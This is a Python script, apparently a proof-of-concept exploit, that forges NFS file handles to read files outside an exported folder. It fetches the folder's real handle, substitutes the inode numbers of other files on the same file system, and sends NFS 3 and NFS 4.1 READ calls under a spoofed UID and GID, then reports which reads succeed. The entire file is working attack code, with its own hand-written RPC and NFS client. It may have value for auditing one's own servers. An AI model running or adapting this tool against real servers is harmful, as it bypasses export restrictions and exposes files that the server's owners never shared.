"""Reads files of an NFS server by handles that the server did not give out. For root on a client.

    python3 forged_handles.py SERVER FOLDER UID GID INODE...

It asks for the handle of the exported FOLDER, and puts the numbers of other inodes of the same file
system into it. It prints a JSON object: from the number of each inode to an object with the status
of the answers of NFS 3 and NFS 4.1 (0: the file was read). UID and GID are what it claims to be.

It needs only Python's standard library: a little of RFC 5531 (RPC), 1813 (NFS 3), 8881 (NFS 4.1).
"""

import json
import random
import socket
import struct
import sys
from typing import List, Tuple

_PROGRAM, _PORT = 100003, 2049
_LOOKUP, _GETFH, _PUTFH, _PUTROOTFH, _READ = 15, 10, 22, 24, 25
_EXCHANGE_ID, _CREATE_SESSION, _SEQUENCE = 42, 43, 53
_OPERATION = 8
"""Bytes of a result without content: its operation and its status."""

_BY_INODE = 1
"""The kernel's FILEID_INO32_GEN: number and generation. Ext4 takes generation 0 for any."""
_FSID_BYTES = {0: 8, 1: 4, 2: 12, 3: 8, 4: 8, 5: 8, 6: 16, 7: 24}


def _words(*values: int) -> bytes:
    return struct.pack(f">{len(values)}I", *values)


def _opaque(data: bytes) -> bytes:
    return _words(len(data)) + data + b"\0" * (-len(data) % 4)


def _first_word(data: bytes) -> int:
    (value,) = struct.unpack_from(">I", data)
    return int(value)


def _after_opaque(data: bytes) -> bytes:
    size = _first_word(data)
    return data[4 + size + -size % 4 :]


class Client:
    """A connection, with a session of NFS 4.1."""

    def __init__(self, server: str, uid: int, gid: int) -> None:
        # The server answers only ports that root may use, unless the export is `insecure`.
        here = ("", random.randrange(600, 1000))
        self._socket = socket.create_connection((server, _PORT), 20, here)
        self._socket.settimeout(60)
        user = _words(0) + _opaque(b"client") + _words(uid, gid, 0)
        self._credentials = _words(1) + _opaque(user) + _words(0, 0)
        self._session = b""
        self._calls = 0
        self._begin_session()

    def call(self, version: int, procedure: int, arguments: bytes) -> bytes:
        """The results of a procedure. Raises `OSError` if the server refuses the call."""
        head = _words(random.getrandbits(32), 0, 2, _PROGRAM, version, procedure)
        message = head + self._credentials + arguments
        self._socket.sendall(_words(0x80000000 | len(message)) + message)
        answer, more = b"", True
        while more:
            mark = _first_word(self._bytes(4))
            more = not mark & 0x80000000
            answer += self._bytes(mark & 0x7FFFFFFF)
        denied, rest = _first_word(answer[8:]), _after_opaque(answer[16:])
        if denied or _first_word(rest):
            raise OSError("the server refuses the call")
        return rest[4:]

    def _bytes(self, count: int) -> bytes:
        got = b""
        while len(got) < count:
            more = self._socket.recv(count - len(got))
            if not more:
                raise OSError("the server closed the connection")
            got += more
        return got

    def compound(self, *operations: bytes) -> Tuple[int, bytes]:
        """The status of NFS 4.1 operations, and their results."""
        self._calls += 1
        sequence = _words(_SEQUENCE) + self._session + _words(self._calls, 0, 0, 0)
        status, results = self._compound(sequence, *operations)
        return status, results[_OPERATION + 36 :]

    def _compound(self, *operations: bytes) -> Tuple[int, bytes]:
        arguments = _opaque(b"") + _words(1, len(operations)) + b"".join(operations)
        answer = self.call(4, 1, arguments)
        return _first_word(answer), _after_opaque(answer[4:])[4:]

    def _begin_session(self) -> None:
        owner = _words(0, 0) + _opaque(b"%d" % random.getrandbits(64))
        status, results = self._compound(_words(_EXCHANGE_ID) + owner + _words(0, 0, 0))
        if status:
            raise OSError(f"EXCHANGE_ID: {status}")
        client_and_number = results[_OPERATION : _OPERATION + 12]
        channel = _words(0, 1 << 16, 1 << 16, 1 << 12, 16, 1, 0)
        rest = _words(0) + channel * 2 + _words(1 << 30, 1, 0)
        status, results = self._compound(_words(_CREATE_SESSION) + client_and_number + rest)
        if status:
            raise OSError(f"CREATE_SESSION: {status}")
        self._session = results[_OPERATION : _OPERATION + 16]


def handle_of(client: Client, folder: str) -> bytes:
    """The handle of an exported folder, as for every client."""
    names = folder.strip("/").split("/")
    look_ups = [_words(_LOOKUP) + _opaque(each.encode()) for each in names]
    status, results = client.compound(_words(_PUTROOTFH), *look_ups, _words(_GETFH))
    if status:
        raise OSError(f"looking up {folder}: {status}")
    answer = results[_OPERATION * (len(names) + 2) :]
    return answer[4 : 4 + _first_word(answer)]


def forged(handle: bytes, inode: int) -> bytes:
    """The handle of another inode of the same file system."""
    fsid = handle[4 : 4 + _FSID_BYTES[handle[2]]]
    return handle[:3] + bytes([_BY_INODE]) + fsid + struct.pack("<II", inode, 0)


def read_3(client: Client, handle: bytes) -> int:
    """The status of reading a file with NFS 3."""
    return _first_word(client.call(3, 6, _opaque(handle) + _words(0, 0, 100)))


def read_4(client: Client, handle: bytes) -> int:
    """The status of reading a file with NFS 4.1, without opening it."""
    nobody = b"\0" * 16
    read = _words(_READ) + nobody + _words(0, 0, 100)
    return client.compound(_words(_PUTFH) + _opaque(handle), read)[0]


def main(words: List[str]) -> None:
    """Tries all inodes, and prints the result."""
    client = Client(words[0], int(words[2]), int(words[3]))
    handle = handle_of(client, words[1])
    statuses = {}
    for inode in words[4:]:
        mine = forged(handle, int(inode))
        statuses[inode] = {"3": read_3(client, mine), "4.1": read_4(client, mine)}
    sys.stdout.write(json.dumps(statuses) + "\n")


if __name__ == "__main__":
    main(sys.argv[1:])
